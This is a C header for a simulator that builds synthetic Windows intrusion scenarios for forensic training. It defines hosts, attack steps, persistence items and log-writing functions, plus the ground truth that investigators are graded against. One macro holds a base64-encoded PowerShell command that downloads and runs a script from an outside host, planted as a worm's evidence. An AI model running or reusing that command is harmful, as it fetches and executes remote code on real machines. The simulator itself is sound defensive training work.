/* The range: simulated incidents on simulated Windows hosts, with the truth beside the evidence.
 *
 * Shapes    A world is rolled from a number and switches (world.c): hosts, neighbours, the attack's steps with their times.
 *           Then each delivered host lives through its days alone (sim.c, life.c, attack.c): a queue of things that happen,
 *           played in order of time, each writing what that Windows version logs under that host's policy (log_*.c).
 *           Times are true times, UTC; a host with a wrong clock writes its own.
 *           A step is told by records; each that shows something of it leaves a mark. What stands in the logs at the end
 *           decides which questions can be answered from them (truth.c).
 * Owns      World and hosts live in the arena given. */
#pragma once
#include "range/evtx_write.h"
#include "range/rng.h"
#include "range/windows.h"

#define HOSTS_MOST 64
#define STEPS_MOST 96
#define FROM_OUTSIDE (-1)
#define BY_SEED (-1)
#define WINLOGON_PID 2600u                         /* of whoever logs on with a desktop */

/* The worm's task of the PowerShell era, as it stands in logs, task files and hives: a download from a host that is long gone. */
#define ENCODED \
    "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBkAG8AdwBuAGwAbwBhAGQAcwB0AHIAaQBuAGcAKAAnAGgAdAB0" \
    "AHAAOgAvAC8AdgAuAGIAZQBhAGgAaAAuAGMAbwBtAC8AdgAnACkA"

typedef enum { WAY_RDP, WAY_RDP_NLA, WAY_SMB, WAY_MSSQL, WAY_EXPLOIT, WAYS } way;
typedef enum { ACCESS_GUESSED, ACCESS_KNOWN, ACCESS_EXPLOIT } access_kind;

typedef struct {
    uint64_t seed;
    const char *out;
    bool no_hives;
    int entry, hosts, language, undelivered, source_empty, slow, cleared, rolled, audit_off, renamed, overlap, intruders, no_attack, days, scene;   /* BY_SEED: rolled */
    int clock_off; bool clock_given;              /* hours */
    double size;                                  /* MB of all logs together; 0: by the seed */
    nt_version os[8]; size_t os_count;            /* none: rolled */
    int crash;                                    /* a crash_scenario (crash.h); BY_SEED: none, an incident */
} switches;

typedef enum { CH_SECURITY, CH_SYSTEM, CH_APPLICATION, CH_TASKS, CH_SESSIONS, CH_CONNECTIONS, CH_POWERSHELL, CH_SCRIPTS, CH_RDP, CH_FIREWALL, CHANNELS } channel_id;

typedef struct {
    bool logons, accounts, processes, command_lines, services, tasks, shares;
} audit;

typedef struct {
    int index;
    const char *name, *later_name;                /* later_name: after its renaming, NULL: never renamed */
    const char *address, *sid;                    /* sid: of the machine, without account */
    nt_version nt;
    bool zh, delivered, sql, sql_zh, sql_logins, has_shell, group_renamed, tasks_kept;
    bool sessions_kept;                           /* the two TerminalServices logs were collected */
    audit audits;
    const char *admin;                            /* its RID-500 account */
    int64_t clock_off;                            /* in moments */
    uint64_t security_bytes;                      /* most that its Security log may hold */
    moment rename_at, clear_at, crash_at, reboot_at, patch_at;           /* MOMENT_UNKNOWN: never */
    moment power_cut_at;
    unsigned crash_code; uint64_t crash_parameters[4];
    bool button;                                  /* its power button was held */
    bool overlap;                                 /* an older copy of its logs lies beside them */
    moment copy_at;
    struct { bool written; uint64_t first, next, copy_first, copy_next; moment from; } kept[CHANNELS];       /* what was delivered of each log */
    int step;                                     /* the step that infected it; -1: none */
    /* What its life did that hives remember. */
    vec people;                                   /* of person */
    vec gone;                                     /* of gone_service */
    bool smb1_off;
    bool dirty, dhcp;                             /* SYSTEM was copied while it ran; its address is leased */
    moment ports_at, stopped_at;                  /* port proxy and firewall rule set; last clean shutdown; MOMENT_UNKNOWN: never */
} host;

/* A local account as SAM counts it. */
typedef struct { const char *name; moment last_logon, last_failure; unsigned logons, failures; } person;
/* A service that was removed again. */
typedef struct { const char *name, *image; moment at, until; bool hostile; } gone_service;

/* What a record can show of a step. */
typedef enum { SHOWS_FAILURE, SHOWS_SUCCESS, SHOWS_SOURCE, SHOWS_SESSION, SHOWS_SERVICE, SHOWS_SWITCH, SHOWS_CHILD, SHOWS_HOSTILE, SHOWS_KINDS } shows;
typedef struct { channel_id channel; uint64_t id; } mark;

typedef struct {
    int from, to;                                 /* hosts, or FROM_OUTSIDE */
    int intruder;                                 /* 1: the worm; 2: the other one */
    const char *address, *workstation;            /* of the source, as the target sees it */
    moment begin, success;                        /* first try (or the act itself), and when it worked */
    way by; access_kind access;
    const char *account, *domain;                 /* domain NULL: the target's own */
    unsigned tries;
    bool source_shown;
    vec marks[SHOWS_KINDS];                       /* of mark; filled by the target's life */
} step;

typedef enum { LEFT_SERVICE, LEFT_TASK, LEFT_ACCOUNT } left_kind;
typedef struct { int host; left_kind kind; const char *name, *what; vec marks; int intruder; moment at; } left;    /* what stays behind; what: "created", "admin-group" */

typedef struct { int host; const char *name; } passing;

/* What stands in hives, task files and folders, for the truth. Words of case.json; `kind` is the family of autostart points. */
typedef struct {
    int host;
    const char *kind, *location, *value, *name, *command, *file, *technique;
    bool hostile;                                 /* no: looks odd, and is the administrator's or a vendor's */
    bool deleted, in_log;                         /* only in a free cell; only in a transaction log */
    moment at;
} planted;
typedef struct { int host; const char *what; span bytes; const char *text; } secret;
typedef struct { int host; const char *check, *found, *state; } exposed;
typedef struct {
    int host; unsigned rid; const char *name, *groups, *looks; bool disabled, hostile;
    moment created, last_logon, password_set; unsigned logons;
} sam_account;
typedef struct { int host; const char *product, *build, *install_type; moment installed, shutdown; bool dhcp; } host_state;

typedef struct { const char *name, *address, *account; } neighbour;

typedef struct {
    arena *mem;
    switches sw;
    uint64_t seed;
    moment from, to;                              /* the days that the logs cover */
    int zone_minutes; const char *zone_en, *zone_zh, *zone_iso;
    bool domain_joined; const char *domain;       /* NetBIOS name of the domain, or "WORKGROUP" */
    host hosts[HOSTS_MOST]; int host_count, delivered;
    step steps[STEPS_MOST]; int step_count;
    vec lefts;                                    /* of left */
    vec passing;                                  /* of passing: hostile, gone again, and no wrong answer where it is named */
    vec planted, secrets, exposed, accounts, states;              /* of what hives hold */
    vec stops;                                    /* of crash_stop (crash.h), of a scenario */
    neighbour jump, scanner, backup, monitor, stale, apps[4];
    const char *network;                          /* "192.168.100." */
    moment scan_first;                            /* the scanner's first weekly scan */
    int stale_host; unsigned stale_minutes;
    double bytes_per_host;
} world;

/* ---- One host's life --------------------------------------------------------------------------------------------- */

typedef struct sim sim;
typedef struct act { moment at; uint64_t order; void (*run)(sim *s, const struct act *a); const void *what; uint64_t n, boot; } act;

typedef struct {
    const char *user, *domain, *sid;              /* sid NULL: the account's, by name */
    unsigned type;
    const char *workstation, *address;            /* NULL: "-" */
    unsigned port;
    const char *process, *package, *image;        /* logon process, authentication package, process image; NULL: by type */
    bool admin;                                   /* with special privileges: 4672 */
    uint64_t id, guid;                            /* id: filled when 0 */
    uint32_t pid;
} logon;

struct sim {
    world *w;
    host *h;
    rng r;
    arena scratch;                                /* emptied after each act */
    evtx_writer *log[CHANNELS];
    vec queue;                                    /* of act: a heap */
    uint64_t order, boot;
    moment now, booted;                           /* true time; moves on with each record */
    moment down_until;                            /* MOMENT_UNKNOWN: up */
    const char *computer;
    uint32_t pid_next, services_pid, lsass_pid, svchost_pid, schedule_pid, sql_pid, spooler_pid, fake_pid;        /* fake_pid: the worm's svchost; 0: none runs */
    uint64_t logon_next;
    unsigned session_next, sequence;
    moment wanted_until;                          /* the world's end */
};

status sim_run(world *w, host *h, arena *mem);
/* Later: at a time; again: after some time from now, only while the same boot lives when `this_boot`. */
void   sim_at(sim *s, moment at, void (*run)(sim *, const act *), const void *what, uint64_t n);
void   sim_in(sim *s, moment span, void (*run)(sim *, const act *), const void *what, uint64_t n);
void   sim_session(sim *s, moment span, void (*run)(sim *, const act *), const void *what, uint64_t n);   /* dies with the boot */
void   sim_pass(sim *s, moment least, moment most);              /* time goes by inside an act */
uint32_t sim_pid(sim *s);
uint64_t sim_logon_id(sim *s);
const char *sim_guid(sim *s);                                    /* "{...}", new each time; lives as long as the act */
const char *sim_print(sim *s, const char *format, ...) __attribute__((format(printf, 2, 3)));
const char *sim_account_sid(sim *s, const char *user);           /* the same for the same name on the same host */
bool   sim_up(const sim *s);
moment sim_local(const sim *s, moment t);                        /* the host's wall clock */
unsigned sim_hour(const sim *s, moment t);                       /* 0..23, wall clock of the zone (not of a wrong clock) */
bool   sim_working(const sim *s, moment t);                      /* a working day between 9 and 18 */
void   mark_step(step *st, shows what, channel_id channel, uint64_t id);     /* id 0: nothing was written */
void   mark_left(sim *s, const char *name, channel_id channel, uint64_t id);
void   left_now(sim *s, const char *name);                        /* it is being made, whether a log shows it or not */
person *sim_person(sim *s, const char *user);                     /* of a local account; made where there is none */

/* ---- Records (log_security.c, log_system.c, log_other.c); each returns its record id, or 0 when this host does not log it */

uint64_t pen(sim *s, channel_id channel, evtx_out *e);            /* fills channel, computer, time */
#define FIELDS_OF(...) (evtx_field[]){ __VA_ARGS__ }, sizeof (evtx_field[]){ __VA_ARGS__ } / sizeof(evtx_field)

uint64_t log_audit(sim *s, unsigned id, unsigned version, unsigned task, bool success, const evtx_field *fields, size_t count);
uint64_t log_logon(sim *s, logon *l);                             /* 4624, and 4672 for administrators */
uint64_t log_logon_failed(sim *s, const logon *l, uint32_t status, uint32_t sub);      /* 4625 */
void     log_logoff(sim *s, const logon *l);                      /* 4634 */
void     log_ntlm(sim *s, const char *user, const char *workstation, uint32_t status); /* 4776 */
void     log_explicit(sim *s, const logon *who, const logon *as, const char *target, const char *image);   /* 4648 */
uint64_t log_share(sim *s, const logon *l, const char *share, const char *path);       /* 5140 */
/* 4688; returns the process id, and the record's through `record` when not NULL. who NULL: SYSTEM. */
uint32_t log_process(sim *s, const logon *who, const char *image, const char *command, uint32_t parent, const char *parent_image, uint64_t *record);
uint32_t log_desktop(sim *s, const logon *who);                   /* userinit and explorer start; explorer's process id */
uint64_t log_service_audit(sim *s, const logon *l, const char *name, const char *file, unsigned start);     /* 4697 */
uint64_t log_task_audit(sim *s, const logon *l, const char *task, const char *command, const char *arguments, const char *interval);   /* 4698 */
uint64_t log_account_created(sim *s, const logon *by, const char *name, const char *sid);    /* 4720, 4722, 4738, 4724 */
uint64_t log_group_added(sim *s, const logon *by, const char *member_sid, const char *group, const char *group_sid);   /* 4732 */
uint64_t log_security_cleared(sim *s, const logon *by);            /* empties the log, then 1102 */

uint64_t log_service_state(sim *s, const char *key, const char *shown, bool running);  /* 7036 */
uint64_t log_service_installed(sim *s, const char *user_sid, const char *name, const char *image, bool automatic);      /* 7045 */
void     log_boot(sim *s, bool clean);                             /* from Kernel-General 12 on; unclean: with 6008, 41, 1001 */
void     log_stop(sim *s, const char *process, const char *user, const char *user_sid);      /* 1074, 6006, 13 */
void     log_uptime(sim *s);                                       /* 6013 */
void     log_time_source(sim *s, bool chosen);                     /* W32Time 35, 37 */
void     log_update(sim *s, const char *title);                    /* WindowsUpdateClient 19 */
void     log_renamed(sim *s, const char *from, const char *to);    /* EventLog 6011 */

uint64_t log_sql(sim *s, unsigned id, unsigned level, unsigned task, const char *a, const char *b, const char *c);      /* MSSQLSERVER */
const char *log_sql_client(sim *s, const char *address);                               /* " [CLIENT: 10.0.0.1]" */
uint64_t log_sql_failed(sim *s, const char *login, bool known, const char *address);   /* 18456 */
uint64_t log_application(sim *s, const char *provider, unsigned id, unsigned level, unsigned task, const char *a, const char *b, const char *c);
typedef enum { TASK_REGISTERED = 106, TASK_UPDATED = 140, TASK_DELETED = 141 } task_change;
uint64_t log_task_change(sim *s, task_change what, const char *task, const char *user);
uint64_t log_task_run(sim *s, const char *task, const char *user, const char *program, uint32_t *pid, moment lasts);    /* 107, 129, 100, 200, and 201, 102 later */
uint64_t log_session(sim *s, unsigned id, const char *user, unsigned session, const char *address);   /* LocalSessionManager 21..25 */
uint64_t log_connection(sim *s, const char *user, const char *domain, const char *address);           /* RemoteConnectionManager 1149 */
void     log_rdp_listener(sim *s, const char *address, unsigned port, bool failed);                    /* RdpCoreTS 131, 140: from 6.2 on */
uint64_t log_shell(sim *s, const char *command, moment lasts);     /* PowerShell 600, 400, and 403 later */
uint64_t log_script(sim *s, const char *text);                     /* 4104: suspicious blocks, on 10.0 by default */
uint64_t log_firewall_rule(sim *s, const char *name, const char *port, bool allow, const char *user_sid, const char *image);   /* 2004 */

/* ---- What happens ------------------------------------------------------------------------------------------------ */

void life_begin(sim *s);                                           /* ordinary things, for all days */
void life_crash(sim *s, const act *a);
void life_down(sim *s, moment span, bool clean);                   /* until it starts again */
void life_reboot(sim *s, const act *a);
void attack_begin(sim *s);                                         /* what the steps into this host, and its infection, do */
void attack_after_boot(sim *s);

switches switches_none(void);                                      /* all by the seed, and no seed */
status range_make(const switches *sw);                             /* logs, truth.json, and scene.yml where it is wanted */
status world_make(arena *mem, const switches *sw, world **out);    /* *out is set in any case */
void   truth_hives(const world *w, json_writer *j);               /* its part of hives */
status truth_write(const world *w);                                /* truth.json */
status scene_write(const world *w);                                /* scene.yml: what the customer told, with one wrong crash time */
status range_write_file(const char *path, const buf *bytes);
const char *way_means(way by);                                     /* words of case.json */
const char *access_word(access_kind a);
size_t step_shown(const world *w, const step *st, shows what);        /* how many of its records were delivered */
bool   left_shown(const world *w, const left *l);
